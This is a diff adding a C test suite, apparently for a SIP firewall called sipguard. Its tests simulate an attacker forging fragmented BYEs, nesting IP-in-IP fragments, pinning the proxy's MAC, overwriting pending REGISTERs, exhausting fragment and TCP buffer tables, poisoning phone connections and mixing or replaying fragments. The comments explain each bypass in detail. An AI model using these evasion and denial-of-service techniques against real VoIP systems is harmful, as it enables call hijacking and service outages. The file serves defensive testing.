+	size_t		 n, half = 1232, fl;
+
+	reg_to(s, &ALICE6, &PROXY6, 3600, "x");
+	memset(body, 'x', sizeof(body) - 1);
+	aor(a, sizeof(a), "alice");
+	aor(b, sizeof(b), "bob");
+	memset(&m, 0, sizeof(m));
+	m.method = "BYE";
+	m.via = "[2001:db8::11]:5060";
+	m.from = a;
+	m.to = b;
+	m.from_tag = "ft";
+	m.to_tag = "tt";
+	m.call_id = "v6-frag-bye";
+	m.cseq = 2;
+	m.expires = -1;
+	m.body = body;
+	m.content_type = "text/plain";
+	n = udp6(dg, &EVE_AS_ALICE6, &PROXY6, bye,
+	    pg_sip(bye, sizeof(bye), &m));
+
+	/* Control: both fragments say UDP -- judged and dropped. */
+	fl = v6_frag(f, &EVE_AS_ALICE6, &PROXY6, 17, 0x1001, 0, true, dg,
+	    half);
+	scn_send_frame(s, f, fl);
+	fl = v6_frag(f, &EVE_AS_ALICE6, &PROXY6, 17, 0x1001, (uint16_t)half,
+	    false, dg + half, n - half);
+	scn_send_frame(s, f, fl);
+	must_drop(s, "control: forged fragmented BYE");
+
+	/* The attack: the last fragment says "no next header". */
+	fl = v6_frag(f, &EVE_AS_ALICE6, &PROXY6, 17, 0x2002, 0, true, dg,
+	    half);
+	scn_send_frame(s, f, fl);
+	fl = v6_frag(f, &EVE_AS_ALICE6, &PROXY6, 59, 0x2002, (uint16_t)half,
+	    false, dg + half, n - half);
+	scn_send_frame(s, f, fl);
+	/* Linux: one datagram (id 0x2002), UDP from the first fragment. */
+	must_drop(s, "last fragment of the BYE, next header 59");
+}
+
+static void
+t_v6_frag_nh(void **st)
+{
+	(void)st;
+	run(v6_frag_nh, "v6_frag_nh", SETS_BASE);
+}
+
+/* ==== 6. A fragment inside a reassembled datagram ======================= */
+
+/*
+ * engine_packet_flags(): after FRAG_DONE, dec_reassembled() can itself
+ * return DEC_FRAGMENT -- the reassembled payload is an IP-in-IP packet
+ * whose inner header is a fragment (dec_chain case 4/41 calls dec_ip(),
+ * which does not carry `reassembled').  The switch that follows has no
+ * case for DEC_FRAGMENT: it falls to "ARP, ICMP, ...: nothing SIP in it"
+ * and is accepted, the inner fragment never entering the reassembly
+ * table.  On a proxy that decapsulates IPIP (a tunnel interface), the
+ * inner fragment joins the inner datagram: part of a forged message
+ * no one judged.  Here: the inner BYE's first fragment travels inside
+ * a fragmented outer packet, its last fragment inside a plain one; both
+ * accepted.
+ */
+static size_t
+ipv4_hdr(uint8_t *ip, const char *src, const char *dst, uint8_t proto,
+    uint16_t id, uint16_t off, bool more, size_t paylen)
+{
+	uint16_t	 fo = (uint16_t)(off / 8) | (more ? 0x2000 : 0);
+
+	memset(ip, 0, 20);
+	ip[0] = 0x45;
+	ip[2] = (uint8_t)((20 + paylen) >> 8);
+	ip[3] = (uint8_t)(20 + paylen);
+	ip[4] = (uint8_t)(id >> 8);
+	ip[5] = (uint8_t)id;
+	ip[6] = (uint8_t)(fo >> 8);
+	ip[7] = (uint8_t)fo;
+	ip[8] = 64;
+	ip[9] = proto;
+	inet_pton(AF_INET, src, ip + 12);
+	inet_pton(AF_INET, dst, ip + 16);
+	{
+		uint16_t c = fold(sum16(0, ip, 20));
+
+		ip[10] = (uint8_t)(c >> 8);
+		ip[11] = (uint8_t)c;
+	}
+	return 20;
+}
+
+static void
+send_v4(struct scn *s, const struct pg_ep *src, const struct pg_ep *dst,
+    const uint8_t *ippkt, size_t len)
+{
+	static uint8_t	 f[70000];
+
+	memcpy(f, dst->mac, 6);
+	memcpy(f + 6, src->mac, 6);
+	f[12] = 0x08;
+	f[13] = 0x00;
+	memcpy(f + 14, ippkt, len);
+	scn_send_frame(s, f, 14 + len);
+}
+
+static void
+nested_fragment(struct scn *s)
+{
+	static char	 text[4096], body[1601];
+	static uint8_t	 dg[6000], inner1[3000], outer[3100], pkt[3200];
+	struct pg_msg	 m;
+	char		 a[64], b[64];
+	size_t		 n, ih = 1200, o1;
+	const char	*tun = "203.0.113.66";	/* the tunnel's far end */
+
+	reg(s, &ALICE);
+	memset(body, 'x', sizeof(body) - 1);
+	aor(a, sizeof(a), "alice");
+	aor(b, sizeof(b), "bob");
+	memset(&m, 0, sizeof(m));
+	m.method = "BYE";
+	m.via = "198.51.100.11:5060";
+	m.from = a;
+	m.to = b;
+	m.from_tag = "ft";
+	m.to_tag = "tt";
+	m.call_id = "nested-bye";
+	m.cseq = 2;
+	m.expires = -1;
+	m.body = body;
+	m.content_type = "text/plain";
+	n = pg_udp_datagram(dg, sizeof(dg), &EVE_AS_ALICE, &PROXY, text,
+	    pg_sip(text, sizeof(text), &m));
+
+	/* Inner fragment 1: Alice -> proxy, bytes [0, ih), MF. */
+	ipv4_hdr(inner1, ALICE.ep.ip, PROXY.ip, 17, 555, 0, true, ih);
+	memcpy(inner1 + 20, dg, ih);
+	/* ... carried in an IPIP packet cut in two outer fragments. */
+	o1 = 600;
+	ipv4_hdr(pkt, tun, PROXY.ip, 4, 9001, 0, true, o1);
+	memcpy(pkt + 20, inner1, o1);
+	send_v4(s, &EVE, &PROXY, pkt, 20 + o1);
+	ipv4_hdr(pkt, tun, PROXY.ip, 4, 9001, (uint16_t)o1, false,
+	    20 + ih - o1);
+	memcpy(pkt + 20, inner1 + o1, 20 + ih - o1);
+	send_v4(s, &EVE, &PROXY, pkt, 20 + 20 + ih - o1);
+	must_drop(s, "reassembled outer packet holding an inner fragment");
+
+	/* Inner fragment 2 (last), in a plain IPIP packet. */
+	ipv4_hdr(outer, ALICE.ep.ip, PROXY.ip, 17, 555, (uint16_t)ih, false,
+	    n - ih);
+	memcpy(outer + 20, dg + ih, n - ih);
+	ipv4_hdr(pkt, tun, PROXY.ip, 4, 9002, 0, false, 20 + n - ih);
+	memcpy(pkt + 20, outer, 20 + n - ih);
+	send_v4(s, &EVE, &PROXY, pkt, 20 + 20 + n - ih);
+	/* Fixed: the outer packet above was dropped, so the proxy never got
+	 * the first inner fragment; this one is held alone, completes
+	 * nothing, and its datagram is judged if the first ever comes. */
+	must_accept(s, "last inner fragment: held, its first part never "
+	    "passed");
+}
+
+static void
+t_nested_fragment(void **st)
+{
+	(void)st;
+	run(nested_fragment, "nested_fragment", SETS_BASE);
+}
+
+/* ==== 7. Direction: the proxy's MAC pinned on first use ================= */
+
+/*
+ * from_proxy_mac(): with no proxy.macs, the MAC of the first packet from
+ * a proxy address is pinned as the proxy's -- whoever sent it.  Eve
+ * sends one packet with the proxy's source address before the proxy
+ * speaks (after any restart of sipguard; a slow steady stream of them
+ * wins every race): her MAC is pinned.  Then every answer of the real
+ * proxy is "forged-proxy", dropped (no phone can register), and Eve's
+ * forged 200 OK teaches sipguard a binding of Alice's identity to Eve's
+ * device.  The spec says "learned from its first answers"; a packet
+ * from the proxy's address that answers nothing should not pin.
+ */
+static void
+pin_first(struct scn *s)
+{
+	struct pg_ep	 fake = PROXY;
+	struct pg_msg	 m;
+	char		 a[64];
+
+	memcpy(fake.mac, EVE.mac, 6);
+	aor(a, sizeof(a), "eve");
+	memset(&m, 0, sizeof(m));
+	m.method = "OPTIONS";
+	m.via = "192.0.2.1:5060";
+	m.from = a;
+	m.to = a;
+	m.call_id = "pin";
+	m.cseq = 1;
+	m.expires = -1;
+	scn_send(s, &fake, &EVE, &m);
+	/* Alice's registration; the proxy's 401 and 200 must pass. */
+	reg(s, &ALICE);
+}
+
+static void
+t_pin_first(void **st)
+{
+	(void)st;
+	run(pin_first, "pin_first", SETS_BASE);
+}
+
+/* ==== 8. pending_key(): the IP is the key, the MAC is not =============== */
+
+/*
+ * A pending REGISTER is keyed by Call-ID, CSeq and source IP
+ * (pending_key).  Eve, on Alice's LAN, sees Alice's re-REGISTER (Call-ID
+ * and CSeq, predictable anyway for re-registrations) and sends the same
+ * Call-ID and CSeq from Alice's IP and her own MAC, without credentials,
+ * before the proxy's 200.  Module I lets it through: same IP and same
+ * identity as Alice's binding, so not "another device" (rule 3); no
+ * Authorization, so no replay (rule 2).  remember_register() then
+ * overwrites the pending entry's tuple with Eve's, and the proxy's 200
+ * for Alice's authenticated REGISTER binds (Eve's MAC, Alice's IP,
+ * alice): from then on Eve's forged requests as Alice are case vii.
+ */
+static void
+pending_overwrite(struct scn *s)
+{
+	char		 a[64], via[80], contact[160], ceve[160];
+	struct pg_msg	 m, r;
+
+	reg(s, &ALICE);
+	aor(a, sizeof(a), "alice");
+	hostport(via, sizeof(via), ALICE.ep.ip, 5060);
+	snprintf(contact, sizeof(contact), "<sip:alice@%s>", via);
+	memset(&m, 0, sizeof(m));
+	m.method = "REGISTER";
+	m.ruri = "sip:" DOMAIN;
+	m.via = via;
+	m.from = a;
+	m.to = a;
+	m.call_id = "alice-rereg";
+	m.cseq = 20;
+	m.contact = contact;
+	m.expires = 3600;
+	m.auth = "Digest username=\"alice\", realm=\"" DOMAIN "\", "
+	    "nonce=\"n20\", uri=\"sip:" DOMAIN "\", "
+	    "response=\"0123456789abcdef0123456789abcdef\"";
+	scn_send(s, &ALICE.ep, &PROXY, &m);
+	must_accept(s, "Alice's re-REGISTER");
+	/* Eve's copy: same Call-ID and CSeq, no credentials. */
+	snprintf(ceve, sizeof(ceve), "<sip:alice@%s;eve>", via);
+	m.auth = NULL;
+	m.contact = ceve;
+	scn_send(s, &EVE_AS_ALICE, &PROXY, &m);
+	print_message("pending_overwrite: Eve's copy of the REGISTER: %s/%s\n",
+	    s->verdict == SG_ACCEPT ? "accept" : "drop", first_reason(s));
+	/* The proxy's 200 to Alice's. */
+	memset(&r, 0, sizeof(r));
+	r.status = 200;
+	r.via = via;
+	r.from = a;
+	r.to = a;
+	r.to_tag = "reg";
+	r.call_id = "alice-rereg";
+	r.cseq = 20;
+	r.cseq_method = "REGISTER";
+	snprintf(contact, sizeof(contact), "<sip:alice@%s>;expires=3600", via);
+	r.contact = contact;
+	r.expires = -1;
+	scn_send(s, &PROXY, &ALICE.ep, &r);
+	must_accept(s, "the proxy's 200");
+	/* Eve's forged INVITE as Alice, from Alice's IP and Eve's MAC. */
+	{
+		static char	 inv[2048];
+		size_t		 n = request_text(inv, sizeof(inv),
+				    ALICE.ep.ip, "alice", "INVITE", "eve-call",
+				    NULL);
+
+		scn_send_payload(s, &EVE_AS_ALICE, &PROXY, inv, n, NULL);
+		must_drop(s, "Eve's INVITE as Alice after the 200");
+	}
+}
+
+static void
+t_pending_overwrite(void **st)
+{
+	(void)st;
+	run(pending_overwrite, "pending_overwrite", SETS_BASE);
+}
+
+/* ==== 9. Tables an attacker fills ======================================= */
+
+/*
+ * Fragments: 64 contexts by default (tables.fragments), each kept 60 s
+ * after its last fragment and never recycled while busy.  64 first
+ * fragments from spoofed sources per minute (about 1 packet a second)
+ * keep it full, and every fragmented datagram of every phone (an INVITE
+ * with a large SDP over UDP, the norm in IMS) is then dropped
+ * ("fragment-dropped").  Linux's own limit is memory (ip(6)frag_high_
+ * thresh, 4 MB: thousands of small fragments), not 64 datagrams.
+ */
+static void
+frag_table_fill(struct scn *s)
+{
+	static char	 text[4000], body[2500];
+	static uint8_t	 dg[5000];
+	struct pg_msg	 m;
+	char		 a[64], b[64], ip[32];
+	size_t		 n, off, chunk = 1480;
+
+	reg(s, &ALICE);
+	for (int round = 0; round < 3; round++) {
+		for (int i = 0; i < 64; i++) {
+			struct pg_ep	 fake = EVE;
+			struct pg_frame_opt d = { .raw_l4 = true,
+			    .ip_id = (uint16_t)(round * 100 + i),
+			    .frag_more = true };
+
+			snprintf(ip, sizeof(ip), "10.%d.%d.1", round, i);
+			fake.ip = ip;
+			scn_send_payload(s, &fake, &PROXY, "01234567", 8, &d);
+		}
+		scn_wait(s, 59);
+	}
+	memset(body, 'a', sizeof(body) - 1);
+	aor(a, sizeof(a), "alice");
+	aor(b, sizeof(b), "bob");
+	memset(&m, 0, sizeof(m));
+	m.method = "INVITE";
+	m.via = "198.51.100.11:5060";
+	m.from = a;
+	m.to = b;
+	m.call_id = "frag-invite";
+	m.cseq = 1;
+	m.expires = -1;
+	m.body = body;
+	m.content_type = "text/plain";
+	n = pg_udp_datagram(dg, sizeof(dg), &ALICE.ep, &PROXY, text,
+	    pg_sip(text, sizeof(text), &m));
+	for (off = 0; off < n; off += chunk) {
+		size_t len = n - off > chunk ? chunk : n - off;
+		struct pg_frame_opt opt = { .raw_l4 = true, .ip_id = 4242,
+		    .frag_off = (uint16_t)off, .frag_more = off + len < n };
+
+		scn_send_payload(s, &ALICE.ep, &PROXY, dg + off, len, &opt);
+		must_accept(s, "Alice's fragmented INVITE");
+	}
+}
+
+static void
+t_frag_table_fill(void **st)
+{
+	(void)st;
+	run(frag_table_fill, "frag_table_fill", SETS_BASE);
+}
+
+/*
+ * Reassembly buffers: 256 by default (tables.stream_buffers), and one
+ * device may hold 256 connections (tcp.streams_per_source): the quota
+ * equals the pool.  buf_get() takes a buffer back only from a connection
+ * never established, so one host with real handshakes (no spoofing, one
+ * IP) and 256 slow messages holds every buffer for as long as it trickles
+ * a byte now and then -- or not even that: a buffer stays with its
+ * connection after the proxy closes it with a FIN (only an outbound RST
+ * frees the entry), until tcp.idle_timeout (30 min).  Every phone's
+ * message that spans two segments is then dropped ("no reassembly buffer
+ * free").  A buffer quota per device well below the pool, and taking
+ * buffers back from the device holding the most, would stop it.
+ */
+static void
+buffer_hog(struct scn *s)
+{
+	static char	 inv[2048];
+	struct pg_ep	 alice = port_of(&ALICE.ep, 45000);
+	size_t		 ni;
+
+	reg(s, &ALICE);
+	ni = request_text(inv, sizeof(inv), ALICE.ep.ip, "alice", "INVITE",
+	    "hog-invite", NULL);
+	for (int i = 0; i < 256; i++) {
+		struct pg_ep	 eve = port_of(&EVE, (uint16_t)(20000 + i));
+
+		handshake(s, &eve);
+		tcp_seg(s, &eve, &PROXY, 1, 5001, 0, 0, "OPTIONS sip:x SIP/2.0"
+		    "\r\nVia: SIP/2.0/TCP 203.0.113.66\r\n", 52);
+	}
+	handshake(s, &alice);
+	tcp_seg(s, &alice, &PROXY, 1, 5001, 0, 0, inv, 60);
+	must_accept(s, "first part of Alice's INVITE");
+	tcp_seg(s, &alice, &PROXY, 61, 5001, 0, 0, inv + 60, ni - 60);
+	must_accept(s, "rest of Alice's INVITE");
+}
+
+static void
+t_buffer_hog(void **st)
+{
+	(void)st;
+	run(buffer_hog, "buffer_hog", SETS_BASE);
+}
+
+/* ==== 10. Poisoning a phone's connection ================================ */
+
+/*
+ * The stream table is keyed by the 4-tuple only.  Eve, on Alice's LAN,
+ * sees Alice's TCP connection (phones often use a fixed local port) and
+ * injects one segment at the next sequence number, from Alice's IP and
+ * her own MAC.  It is judged (ix), dropped -- and poisons Alice's
+ * connection: Linux never saw Eve's bytes (sipguard dropped them), so
+ * Alice's stream at the proxy is intact, yet every later segment of
+ * Alice's is "tcp-poisoned".  The poison then never ends while Alice
+ * keeps trying: every dropped retransmission refreshes `last' (set
+ * before the poison check), the proxy closing with a FIN does not end it
+ * (only an outbound RST does, though the README says "the proxy closes
+ * it"), and her reconnection from the same port (a SYN on the poisoned
+ * 4-tuple) is dropped too.  A segment from another MAC than the one
+ * that opened the connection could be dropped without poisoning it.
+ */
+static void
+poison_phone(struct scn *s)
+{
+	static char	 inv[2048], bye[2048];
+	struct pg_ep	 alice = ALICE.ep;	/* fixed port 5060 */
+	struct pg_ep	 eve = EVE_AS_ALICE;
+	size_t		 ni, nb;
+	uint32_t	 seq;
+
+	reg(s, &ALICE);
+	ni = request_text(inv, sizeof(inv), ALICE.ep.ip, "alice", "INVITE",
+	    "poison-invite", NULL);
+	nb = request_text(bye, sizeof(bye), ALICE.ep.ip, "alice", "BYE",
+	    "poison-bye", NULL);
+	handshake(s, &alice);
+	tcp_seg(s, &alice, &PROXY, 1, 5001, 0, 0, inv, ni);
+	must_accept(s, "Alice's INVITE");
+	seq = 1 + (uint32_t)ni;
+	/* Eve's injection, dropped as it should be. */
+	tcp_seg(s, &eve, &PROXY, seq, 5001, 0, 0, bye, nb);
+	must_drop(s, "Eve's injected BYE");
+	/* Alice's next request on her connection. */
+	tcp_seg(s, &alice, &PROXY, seq, 5001, 0, 0, bye, nb);
+	must_accept(s, "Alice's own BYE after Eve's injection");
+}
+
+static void
+t_poison_phone(void **st)
+{
+	(void)st;
+	run(poison_phone, "poison_phone", SETS_BASE);
+}
+
+static void
+poison_forever(struct scn *s)
+{
+	static char	 inv[2048], bye[2048];
+	struct pg_ep	 alice = ALICE.ep;
+	size_t		 ni, nb;
+	uint32_t	 seq;
+
+	reg(s, &ALICE);
+	ni = request_text(inv, sizeof(inv), ALICE.ep.ip, "alice", "INVITE",
+	    "forever-invite", NULL);
+	nb = request_text(bye, sizeof(bye), ALICE.ep.ip, "alice", "BYE",
+	    "forever-bye", NULL);
+	handshake(s, &alice);
+	tcp_seg(s, &alice, &PROXY, 1, 5001, 0, 0, inv, ni);
+	seq = 1 + (uint32_t)ni;
+	tcp_seg(s, &EVE_AS_ALICE, &PROXY, seq, 5001, 0, 0, bye, nb);
+	/* The proxy gives up on the connection after its lifetime: FIN. */
+	scn_wait(s, 120);
+	tcp_seg(s, &PROXY, &alice, 5001, seq, 0x11, 0, "", 0);
+	/* Alice's stack retransmits, then her phone reconnects from the
+	 * same port every minute, for 40 minutes (> tcp.idle_timeout). */
+	for (int i = 0; i < 40; i++) {
+		scn_wait(s, 60);
+		tcp_seg(s, &alice, &PROXY, 100000u * (uint32_t)i, 0, 0x02, 0,
+		    "", 0);
+	}
+	must_accept(s, "Alice's SYN from her port, 42 minutes later");
+	tcp_seg(s, &PROXY, &alice, 9000, 100000u * 39 + 1, 0x12, 0, "", 0);
+	tcp_seg(s, &alice, &PROXY, 100000u * 39 + 1, 9001, 0x10, 0, "", 0);
+	tcp_seg(s, &alice, &PROXY, 100000u * 39 + 1, 9001, 0, 0, inv, ni);
+	must_accept(s, "Alice's INVITE on her new connection");
+}
+
+static void
+t_poison_forever(void **st)
+{
+	(void)st;
+	run(poison_forever, "poison_forever", SETS_BASE);
+}
+
+/* ==== 12. A judged segment lost after sipguard ========================= */
+
+/*
+ * Once a message is complete and judged its bytes are released; until the
+ * proxy acknowledges them, a retransmission of them is "tcp-unverifiable"
+ * and dropped -- even when identical.  But loss after the verdict is
+ * ordinary: the proxy's socket drops a segment when its receive memory or
+ * backlog is full (tcp_data_queue/tcp_add_backlog), a sender probing a
+ * zero window with a byte of new data has it discarded
+ * (SKB_DROP_REASON_TCP_ZEROWINDOW), a gateway's link to the proxy loses
+ * it.  The phone's stack then retransmits the very same bytes, forever
+ * dropped: the connection is dead.  Keeping a digest of each judged,
+ * unacknowledged range (or the bytes, until acked) would let an identical
+ * retransmission through.
+ */
+static void
+retransmit_identical(struct scn *s)
+{
+	static char	 inv[2048];
+	struct pg_ep	 alice = port_of(&ALICE.ep, 45100);
+	size_t		 ni;
+
+	reg(s, &ALICE);
+	ni = request_text(inv, sizeof(inv), ALICE.ep.ip, "alice", "INVITE",
+	    "lost-invite", NULL);
+	handshake(s, &alice);
+	tcp_seg(s, &alice, &PROXY, 1, 5001, 0, 0, inv, ni);
+	must_accept(s, "Alice's INVITE");
+	/* ... lost between sipguard and the proxy's socket: no ACK. */
+	scn_wait(s, 0.2);
+	tcp_seg(s, &alice, &PROXY, 1, 5001, 0, 0, inv, ni);
+	must_accept(s, "the identical retransmission of it");
+}
+
+static void
+t_retransmit_identical(void **st)
+{
+	(void)st;
+	run(retransmit_identical, "retransmit_identical", SETS_BASE);
+}
+
+/* ==== 13. Fragments and the MAC ========================================= */
+
+/* Alice's INVITE as a UDP datagram, `sdp' its body. */
+static size_t
+alice_invite_dgram(uint8_t *dg, size_t sz, const struct pg_ep *src,
+    const char *sdp, const char *cid)
+{
+	static char	 text[6000];
+	struct pg_msg	 m;
+	char		 a[64], b[64];
+
+	aor(a, sizeof(a), "alice");
+	aor(b, sizeof(b), "bob");
+	memset(&m, 0, sizeof(m));
+	m.method = "INVITE";
+	m.via = "198.51.100.11:5060";
+	m.from = a;
+	m.to = b;
+	m.from_tag = "ft";
+	m.call_id = cid;
+	m.cseq = 1;
+	m.expires = -1;
+	m.body = sdp;
+	return pg_udp_datagram(dg, sz, src, &PROXY, text,
+	    pg_sip(text, sizeof(text), &m));
+}
+
+static void
+send_frag(struct scn *s, const struct pg_ep *src, const uint8_t *dg,
+    size_t off, size_t len, bool more, uint16_t id)
+{
+	struct pg_frame_opt opt = { .raw_l4 = true, .ip_id = id,
+	    .frag_off = (uint16_t)off, .frag_more = more };
+
+	scn_send_payload(s, src, &PROXY, dg + off, len, &opt);
+}
+
+/*
+ * A datagram is judged with the MAC of the fragment that completes it;
+ * the MACs of the others are never looked at (ctx_get keys on addresses
+ * and id only).  Eve, on Alice's LAN, learns Alice's IP ID sequence (she
+ * sees her traffic; Linux's IDs per destination are a counter) and sends
+ * the tail of Alice's next INVITE first -- her own SDP, pointing the
+ * media at her -- from Alice's IP and her own MAC.  Alice's first
+ * fragment completes the datagram: judged with Alice's MAC, case vii,
+ * accepted.  Linux delivers Alice's headers with Eve's SDP; Alice's own
+ * tail, later, is dropped by both.  Every fragment of one datagram
+ * should come from one MAC (else: forged, drop).
+ * Caveat for the field: Alice's head carries her UDP checksum, which
+ * Eve's tail must keep valid without having seen Alice's datagram; easy
+ * when the sender sends no UDP checksum (IPv4, 0) or the content is
+ * known (a retransmission, whose next IP ID Eve predicts); otherwise the
+ * kernel drops the mixed datagram.  Here the checksum is 0.
+ */
+static void
+frag_mac_mix(struct scn *s)
+{
+	static uint8_t	 real[6000], evil[6000];
+	static char	 sdp_a[2500], sdp_e[2500];
+	size_t		 n, n2, half = 1480;
+
+	reg(s, &ALICE);
+	memset(sdp_a, 'a', sizeof(sdp_a) - 1);
+	memset(sdp_e, 'e', sizeof(sdp_e) - 1);
+	memcpy(sdp_e, "v=0\r\nc=IN IP4 203.0.113.66\r\n", 28);
+	n = alice_invite_dgram(real, sizeof(real), &ALICE.ep, sdp_a, "mix");
+	n2 = alice_invite_dgram(evil, sizeof(evil), &ALICE.ep, sdp_e, "mix");
+	assert_int_equal(n, n2);
+	/* Eve's tail (the UDP checksum is 0: none, valid over IPv4). */
+	send_frag(s, &EVE_AS_ALICE, evil, half, n - half, false, 3131);
+	/* Alice's head completes it. */
+	send_frag(s, &ALICE.ep, real, 0, half, true, 3131);
+	must_drop(s, "Alice's head + Eve's tail, judged as Alice's");
+}
+
+static void
+t_frag_mac_mix(void **st)
+{
+	(void)st;
+	run(frag_mac_mix, "frag_mac_mix", SETS_BASE);
+}
+
+/*
+ * After a datagram is accepted, its context answers every identical
+ * fragment for 60 s with FRAG_LATE: accepted, whoever sends it.  Linux,
+ * whose queue is gone, starts a new one and delivers the datagram again
+ * once every fragment is resent.  So Eve replays Alice's judged
+ * fragmented request from her own MAC -- the case-ix MAC check, and for a
+ * REGISTER the replay check (rule 2), never run.  A late copy from
+ * another MAC than the datagram's should be dropped.
+ */
+static void
+frag_late_replay(struct scn *s)
+{
+	static uint8_t	 dg[6000];
+	static char	 sdp[2500];
+	size_t		 n, half = 1480;
+
+	reg(s, &ALICE);
+	memset(sdp, 'a', sizeof(sdp) - 1);
+	n = alice_invite_dgram(dg, sizeof(dg), &ALICE.ep, sdp, "late");
+	send_frag(s, &ALICE.ep, dg, 0, half, true, 3232);
+	send_frag(s, &ALICE.ep, dg, half, n - half, false, 3232);
+	must_accept(s, "Alice's fragmented INVITE");
+	scn_wait(s, 20);
+	send_frag(s, &EVE_AS_ALICE, dg, 0, half, true, 3232);
+	send_frag(s, &EVE_AS_ALICE, dg, half, n - half, false, 3232);
+	must_drop(s, "Eve's replay of it, from her MAC");
+}
+
+static void
+t_frag_late_replay(void **st)
+{
+	(void)st;
+	run(frag_late_replay, "frag_late_replay", SETS_BASE);
+}
+
+/* ==== 11. Cost: a message that arrives a byte at a time ================= */
+
+/*
+ * frame() hands sipm_frame() the whole held message on every segment, so
+ * a message trickled in 1-byte segments is scanned from its start each
+ * time.  Measured against a plain INVITE over UDP; the test only fails
+ * past 10x (SPEC 1: "no input costs much more than a normal message").
+ */
+static double
+now_s(void)
+{
+	struct timespec	 ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+static void
+trickle_cost(struct scn *s)
+{
+	static char	 big[66000], inv[2048];
+	struct pg_ep	 eve = port_of(&EVE, 33040);
+	size_t		 n = 0, ni;
+	double		 t0, per_inv, per_seg;
+	const int	 rounds = 2000;
+	uint32_t	 seq;
+
+	reg(s, &ALICE);
+	ni = request_text(inv, sizeof(inv), ALICE.ep.ip, "alice", "INVITE",
+	    "cost", NULL);
+	t0 = now_s();
+	for (int i = 0; i < rounds; i++)
+		scn_send_payload(s, &ALICE.ep, &PROXY, inv, ni, NULL);
+	per_inv = (now_s() - t0) / rounds;
+
+	/* 250 header lines of 250 bytes, never terminated: ~62 KB held. */
+	n += (size_t)snprintf(big, sizeof(big), "OPTIONS sip:x SIP/2.0\r\n");
+	for (int l = 0; l < 250; l++) {
+		n += (size_t)snprintf(big + n, sizeof(big) - n, "X-%03d: ", l);
+		memset(big + n, 'a', 241);
+		n += 241;
+		memcpy(big + n, "\r\n", 2);
+		n += 2;
+	}
+	handshake(s, &eve);
+	tcp_seg(s, &eve, &PROXY, 1, 5001, 0, 0, big, n);
+	seq = 1 + (uint32_t)n;
+	t0 = now_s();
+	for (int i = 0; i < rounds; i++, seq++)
+		tcp_seg(s, &eve, &PROXY, seq, 5001, 0, 0, "a", 1);
+	per_seg = (now_s() - t0) / rounds;
+	print_message("trickle: %.2f us per 1-byte segment, %.2f us per "
+	    "INVITE (x%.1f)\n", per_seg * 1e6, per_inv * 1e6,
+	    per_seg / per_inv);
+	if (per_seg > 10 * per_inv)
+		scn_failf(s, "a 1-byte segment costs %.1f INVITEs",
+		    per_seg / per_inv);
+}
+
+static void
+t_trickle_cost(void **st)
+{
+	(void)st;
+	run(trickle_cost, "trickle_cost", SETS_BASE);
+}
+
+/*
+ * Tried and held up (no test fails for them here; several are covered by
+ * tcp_overlap, tcp_split, frag_evasion in scenarios.c):
+ *  - insertion alone (a segment Linux drops: no ACK, bad checksum inside
+ *    fragments, PAWS, zero window, past a FIN) followed by different bytes
+ *    at the same sequence: "tcp-conflict" or "tcp-unverifiable", never
+ *    taken -- insertion only matters with a re-sync (findings 2, 3);
+ *  - overlapping/conflicting retransmissions of held bytes; holes;
+ *  - TCP Fast Open data on a SYN (dropped);
+ *  - RST not at the exact next sequence number (state kept);
+ *  - IPv4/IPv6 overlaps, oversize, non-multiple-of-8 fragments (sipguard
+ *    poisons where Linux may trim or ignore: stricter, not looser), late
+ *    copies of a judged datagram must match it byte for byte and in
+ *    length, so Linux can only rebuild what was judged;
+ *  - duplicated Content-Length, a malformed value, folded Content-Length
+ *    header, bare CR, "\n\r\r\n": all malformed (dropped);
+ *  - cost of a message trickled a byte at a time (t_trickle_cost: about
+ *    one INVITE per segment).
+ */
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(t_control_plain),
+		cmocka_unit_test(t_clen_underscore),
+		cmocka_unit_test(t_clen_folded),
+		cmocka_unit_test(t_clen_first_line),
+		cmocka_unit_test(t_syn_rebase),
+		cmocka_unit_test(t_evict_pickup),
+		cmocka_unit_test(t_quota_pickup),
+		cmocka_unit_test(t_idle_pickup),
+		cmocka_unit_test(t_noack_rst_pickup),
+		cmocka_unit_test(t_urgent_byte),
+		cmocka_unit_test(t_urgent_ahead),
+		cmocka_unit_test(t_v6_frag_nh),
+		cmocka_unit_test(t_nested_fragment),
+		cmocka_unit_test(t_pin_first),
+		cmocka_unit_test(t_pending_overwrite),
+		cmocka_unit_test(t_frag_table_fill),
+		cmocka_unit_test(t_buffer_hog),
+		cmocka_unit_test(t_poison_phone),
+		cmocka_unit_test(t_poison_forever),
+		cmocka_unit_test(t_retransmit_identical),
+		cmocka_unit_test(t_frag_mac_mix),
+		cmocka_unit_test(t_frag_late_replay),
+		cmocka_unit_test(t_trickle_cost),
+	};
+
+	hash_init();
+	return cmocka_run_group_tests_name("attack", tests, NULL, NULL);
+}
